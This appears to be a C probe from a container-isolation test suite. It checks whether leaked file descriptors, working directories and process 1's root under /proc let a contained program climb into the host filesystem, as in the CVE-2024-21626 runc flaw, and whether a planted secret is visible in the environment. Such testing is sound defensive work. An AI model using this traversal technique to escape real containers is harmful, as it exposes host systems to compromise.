/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * descriptors MARKER: what a program is given beside its standard streams (CVE-2024-21626): descriptors, its
 * own and of process 1, a working directory outside of the root, the caller's environment. MARKER is the path
 * of a file of the host that the container does not have, to tell when the host's tree is reached.
 */
#include <dirent.h>

#include "attack.h"

static void reach(const char *directory, const char *marker, const char *what)
{
    char path[4096];
    for (unsigned up = 0; up < 12; up++) {
        int length = snprintf(path, sizeof path, "%s/", directory);
        for (unsigned i = 0; i < up; i++)
            length += snprintf(path + length, sizeof path - (size_t)length, "../");
        snprintf(path + length, sizeof path - (size_t)length, "%s", marker + 1);
        if (access(path, F_OK) == 0) {
            tried(0, "%s leads to %s", what, path);
            return;
        }
    }
    errno = ENOENT;
    tried(-1, "%s leads out", what);
}

static void list(const char *process, const char *marker)
{
    char name[64], link[4096], path[512];
    snprintf(name, sizeof name, "/proc/%s/fd", process);
    DIR *directory = opendir(name);
    if (!directory) {
        tried(-1, "descriptors of %s", process);
        return;
    }
    const struct dirent *entry;
    while ((entry = readdir(directory))) {
        bool own = strcmp(process, "self") == 0 || getpid() == 1;
        if (entry->d_name[0] == '.' || (own && atoi(entry->d_name) == dirfd(directory)))
            continue;
        snprintf(path, sizeof path, "%s/%s", name, entry->d_name);
        ssize_t size = readlink(path, link, sizeof link - 1);
        link[size < 0 ? 0 : size] = '\0';
        if (atoi(entry->d_name) > 2)
            tried(0, "descriptor %s of %s, %s", entry->d_name, process, link);
        reach(path, marker, "descriptor");
    }
    closedir(directory);
}

int main(int count, char **words)
{
    char path[4096];
    if (count != 2)
        return 2;
    list("self", words[1]);
    list("1", words[1]);
    reach("/proc/self/cwd", words[1], "working directory");
    reach("/proc/1/cwd", words[1], "working directory of 1");
    reach("/proc/self/root", words[1], "root");
    reach("/proc/1/root", words[1], "root of 1");
    if (syscall(SYS_getcwd, path, sizeof path) > 0 && path[0] != '/')
        tried(0, "working directory %s", path);
    for (char **variable = environ; *variable; variable++) {
        if (strncmp(*variable, "VISOR_ESCAPE_SECRET=", 20) == 0)
            tried(0, "environment of the caller");
    }
    printf("end: refused\n");
    return 0;
}
